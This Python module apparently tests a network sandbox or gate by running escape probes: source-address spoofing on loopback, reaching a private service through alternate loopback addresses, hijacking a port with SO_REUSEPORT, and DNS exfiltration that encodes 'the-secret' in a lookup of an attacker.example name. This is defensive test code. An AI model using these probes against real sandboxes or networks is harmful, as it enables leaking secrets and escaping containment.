"""Attacks by the network on the gate, and on what stands behind it. Outside they work, and change nothing."""

from __future__ import annotations

import socket

from trying import SETTING, Nothing, main, named

# Seconds that an answer may take: an address of a world refuses at once, and a busy machine is slow.
_WAIT = 20
# A question for the addresses of a name, as the first of its connection. RFC 1035, section 4.1.
_QUESTION = b"\0\7\1\0\0\1\0\0\0\0\0\0"


def source_of_its_choice() -> object:
    """The service says whom it takes it for."""
    with socket.socket() as made:
        made.settimeout(_WAIT)
        made.bind(("127.0.0.77", 0))
        made.connect(("127.0.0.1", SETTING["granted"]))
        seen = made.makefile().read()
    if seen != "127.0.0.77":
        raise Nothing(f"the service sees {seen}")
    return seen


def loopback_of_the_host() -> object:
    """By each of the addresses that mean it."""
    refused = OSError()
    for host in ("127.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"):
        try:
            with socket.create_connection((host, SETTING["private"]), _WAIT) as made:
                return made.makefile().read()
        except OSError as error:
            refused = error
    raise refused


def port_beside_the_gate() -> object:
    """Of two listeners that share a port each gets a part of the connections. socket(7)"""
    shared = []
    try:
        if SETTING["alone"]:  # where no gate listens it needs a listener of its own to stand beside
            shared.append(_sharing(0))
        port = shared[0].getsockname()[1] if shared else SETTING["granted"]
        shared.append(_sharing(port))
        return port
    finally:
        for each in shared:
            each.close()


def secret_in_a_name() -> object:
    """A name that is looked up reaches the servers of who owns it, and so does what it spells."""
    name = b"".join(bytes([len(part)]) + part for part in (b"the-secret", b"attacker", b"example", b""))
    answers = []
    for server in SETTING["resolvers"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.settimeout(_WAIT)
            made.connect(tuple(server))
            try:
                made.send(_QUESTION + name + b"\0\1\0\1")
                answers.append(made.recv(512))
            except ConnectionRefusedError:
                continue
    if not any(answer[6:8] != b"\0\0" for answer in answers):
        raise Nothing(f"{len(answers)} answers without an address")
    return "an address"


def _sharing(port: int) -> socket.socket:
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        made.bind(("127.0.0.1", port))
        made.listen()
    except OSError:
        made.close()
        raise
    return made


ATTACKS = named(globals(), __name__)

if __name__ == "__main__":
    main(ATTACKS)
